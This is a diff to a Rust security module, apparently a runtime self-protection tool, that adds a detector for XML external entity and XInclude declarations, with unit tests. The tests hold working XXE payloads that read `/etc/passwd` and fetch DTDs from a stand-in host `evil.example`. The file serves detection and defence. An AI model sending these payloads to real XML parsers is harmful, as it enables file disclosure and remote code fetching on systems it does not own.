@@ -105,9 +105,8 @@ pub(crate) fn for_each_value<'a>(
             }
             // Of a DOCTYPE's declarations only an internal entity's text
             // reaches the application, where it is referenced (an internal
-            // subset's `<!ELEMENT` scored as markup); external entities
-            // (XXE) are not resolved by Rust's XML readers, and are no
-            // check of rasp's.
+            // subset's `<!ELEMENT` scored as markup); external entities are
+            // the `xxe` check's (see `external_reference`).
             Event::DocType(d) => {
                 let declared: &str = &d;
                 entity_values(declared).all(|(name, value)| {
@@ -125,6 +124,94 @@ pub(crate) fn for_each_value<'a>(
             return Ok(());
         }
     }
+}
+
+/// The first declaration of `doc` that has an XML parser read another
+/// resource, as the event's payload: an external entity, general or
+/// parameter (`<!ENTITY x SYSTEM "file:///etc/passwd">`, `<!ENTITY % x
+/// PUBLIC "id" "http://...">`), a document type read from a `SYSTEM`
+/// address (`<!DOCTYPE x SYSTEM "http://...">`, which may declare such
+/// entities itself), or the XInclude namespace (`<xi:include
+/// href="file:///etc/passwd" parse="text"/>`). A document type named by a
+/// `PUBLIC` identifier (`<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"
+/// ...>`, as SVG and XHTML files start) is a catalogue name, not counted.
+/// Internal entities (`<!ENTITY p "text">`) are values (see the module).
+#[cold]
+#[inline(never)]
+pub(crate) fn external_reference(doc: &[u8]) -> Option<String> {
+    let payload = |at: usize| {
+        let end = doc[at..]
+            .iter()
+            .take(256)
+            .position(|&c| c == b'>')
+            .map_or((at + 256).min(doc.len()), |e| at + e + 1);
+        String::from_utf8_lossy(&doc[at..end]).into_owned()
+    };
+    if let Some(at) = memchr::memmem::find(doc, b"http://www.w3.org/2001/XInclude") {
+        return Some(payload(at));
+    }
+    // After a keyword: white space, a name (bounded, as in
+    // `entity_values`), white space; what follows.
+    let after_name = |mut rest: &'_ [u8], parameter: bool| -> Option<usize> {
+        let start = doc.len() - rest.len();
+        rest = rest.trim_ascii_start();
+        if parameter {
+            if let Some(r) = rest.strip_prefix(b"%") {
+                rest = r.trim_ascii_start();
+            }
+        }
+        let name = rest
+            .iter()
+            .take(MAX_ENTITY_NAME + 1)
+            .position(|c| c.is_ascii_whitespace() || matches!(c, b'[' | b'>'))?;
+        let rest = rest[name..].trim_ascii_start();
+        Some(doc.len() - rest.len() - start)
+    };
+    for at in memchr::memmem::find_iter(doc, b"<!DOCTYPE") {
+        let rest = &doc[at + b"<!DOCTYPE".len()..];
+        let system = after_name(rest, false)
+            .and_then(|n| rest[n..].strip_prefix(b"SYSTEM"))
+            .is_some_and(addressed);
+        if system {
+            return Some(payload(at));
+        }
+    }
+    for at in memchr::memmem::find_iter(doc, b"<!ENTITY") {
+        let rest = &doc[at + b"<!ENTITY".len()..];
+        if after_name(rest, true)
+            .is_some_and(|n| rest[n..].starts_with(b"SYSTEM") || rest[n..].starts_with(b"PUBLIC"))
+        {
+            return Some(payload(at));
+        }
+    }
+    None
+}
+
+/// Whether a value holds what [`external_reference`] finds (a value
+/// without `<` holds no declaration and no element).
+#[inline]
+pub(crate) fn refers_outside(value: &[u8]) -> bool {
+    memchr::memchr(b'<', value).is_some() && external_reference(value).is_some()
+}
+
+/// Whether the system literal that starts `rest` (after white space) is
+/// an address: a URL (`http:`, `file:`, `jar:`, ...) or an absolute path.
+/// A relative name (`<!DOCTYPE note SYSTEM "Note.dtd">`, as tutorials and
+/// older XML write it) reads a file beside the application's own.
+fn addressed(rest: &[u8]) -> bool {
+    let rest = rest.trim_ascii_start();
+    let Some((&quote, literal)) = rest.split_first() else {
+        return false;
+    };
+    let end = literal
+        .iter()
+        .take(256)
+        .position(|&c| c == quote)
+        .unwrap_or(literal.len().min(256));
+    let literal = &literal[..end];
+    matches!(quote, b'"' | b'\'')
+        && (literal.contains(&b':')
+            || matches!(literal.trim_ascii_start().first(), Some(b'/' | b'\\')))
 }
 
 /// Longest entity name looked for (in a declaration, in a reference).
@@ -313,6 +400,38 @@ mod tests {
             r#"<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>"#,
         );
         assert!(v.is_empty(), "{v:?}");
+    }
+
+    #[test]
+    fn external_references_are_found() {
+        for doc in [
+            r#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#,
+            r#"<!DOCTYPE foo [ <!ENTITY % dtd SYSTEM "http://evil.example/x.dtd"> %dtd; ]><foo/>"#,
+            r#"<!DOCTYPE foo [<!ENTITY  x   PUBLIC "-//x//EN" "http://evil.example/x">]><foo/>"#,
+            r#"<!DOCTYPE foo SYSTEM "http://evil.example/x.dtd"><foo/>"#,
+            "<!DOCTYPE\nfoo\nSYSTEM\n'file:///etc/hostname'>",
+            r#"<!DOCTYPE foo SYSTEM "/etc/passwd"><foo/>"#,
+            r#"<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>"#,
+        ] {
+            assert!(external_reference(doc.as_bytes()).is_some(), "{doc}");
+        }
+        assert_eq!(
+            external_reference(br#"<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a/>"#)
+                .as_deref(),
+            Some(r#"<!ENTITY x SYSTEM "file:///etc/passwd">"#)
+        );
+        for doc in [
+            r#"<?xml version="1.0"?><order><note>ENTITY SYSTEM</note></order>"#,
+            r#"<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>"#,
+            r#"<!DOCTYPE html><html/>"#,
+            r#"<?xml version="1.0"?><!DOCTYPE note SYSTEM "Note.dtd"><note/>"#,
+            r#"<!DOCTYPE o [<!ENTITY p "SYSTEM"><!ENTITY % q 'PUBLIC'>]><o>&p;</o>"#,
+            "<!DOCTYPE",
+            "<!ENTITY",
+            "<!ENTITY %",
+        ] {
+            assert_eq!(external_reference(doc.as_bytes()), None, "{doc}");
+        }
     }
 
     #[test]
